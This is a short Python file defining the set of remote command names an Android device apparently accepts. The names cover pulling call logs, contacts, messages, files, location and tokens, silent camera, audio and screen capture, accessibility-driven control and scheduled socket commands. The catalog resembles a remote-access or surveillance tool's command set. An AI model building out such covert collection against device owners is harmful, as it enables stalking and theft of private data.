"""Catalog of operations an Android device understands."""

from __future__ import annotations

COMMAND_TYPES: frozenset[str] = frozenset({
    "unknown",
    "login",
    "custom",
    # Data sync
    "push_tokens",
    "push_data",
    "start_repeat_push_data",
    "stop_repeat_push_data",
    "sync_app_config",
    # Call logs
    "push_call_logs",
    "add_call_log",
    "delete_call_log",
    # Contacts
    "push_contacts",
    "add_contact",
    "delete_contact",
    # Messages
    "push_messages",
    "send_message",
    # Files
    "push_file_explorer_walk",
    "push_thumbnails",
    "delete_file",
    "push_file",
    "push_files",
    "get_pending_push_files",
    "delete_pending_push_files",
    "sync_push_files",
    # Location
    "push_location",
    # Device actions
    "vibrate",
    "flash",
    # Media capture
    "take_picture",
    "take_screenshot",
    "record_video",
    "record_audio",
    "start_screen_recording",
    "stop_screen_recording",
    # Apps
    "push_installed_app_list",
    "push_app_logs",
    "push_device_info",
    "open_app",
    "make_call",
    "open_deeplink",
    # System
    "get_diagnosis",
    "schedule_command",
    "cancel_scheduled_command",
    "start_initializer",
    # Socket
    "connect_socket",
    "disconnect_socket",
    # Accessibility
    "run_accessibility_command",
    "push_accessibility_notifications",
    # Audio
    "set_device_audio",
    "push_device_audio",
    "play_sound",
    # Remote configuration
    "set_dynamic_config",
    "push_dynamic_config",
})
